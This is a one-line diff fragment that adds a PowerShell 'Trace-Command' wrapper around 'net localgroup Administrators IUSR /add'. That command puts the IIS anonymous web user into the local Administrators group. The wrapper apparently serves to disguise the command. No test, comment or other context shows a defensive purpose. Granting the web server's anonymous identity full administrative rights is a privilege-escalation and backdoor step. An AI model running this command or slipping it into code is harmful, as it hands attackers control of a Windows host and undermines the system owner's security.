@@ -1,0 +1,1 @@
+Trace-Command -Name x -Expression { net localgroup Administrators IUSR /add }
